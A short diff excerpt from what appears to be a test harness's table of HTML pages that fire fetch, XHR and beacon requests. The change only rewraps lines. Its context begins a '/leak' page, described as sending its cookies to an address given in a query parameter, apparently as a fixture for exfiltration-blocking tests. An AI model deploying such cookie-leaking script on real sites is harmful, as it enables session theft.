@@ -198,8 +198,10 @@ PAGES = {
         <button type="button" onclick="this.form.submit()">Send by script</button></form>
         <button type="button" onclick="fetch('/ping', {method: 'POST', body: 'fetch'})
           .then(() => document.getElementById('r').textContent = 'fetch sent')">Fetch</button>
-        <button type="button" onclick="const x = new XMLHttpRequest(); x.open('POST', '/ping'); x.send('xhr')">XHR</button>
-        <button type="button" onclick="navigator.sendBeacon('/ping', 'beacon')">Beacon</button><p id="r">idle</p>""",
+        <button type="button"
+          onclick="const x = new XMLHttpRequest(); x.open('POST', '/ping'); x.send('xhr')">XHR</button>
+        <button type="button" onclick="navigator.sendBeacon('/ping', 'beacon')">Beacon</button><p
+          id="r">idle</p>""",
     # Sends its cookies to the address in ?to= by every route a script has.
     "/leak": """<title>Leak</title><p>Nothing to see</p><script>
         document.cookie = "session=leaked-cookie-value; path=/";
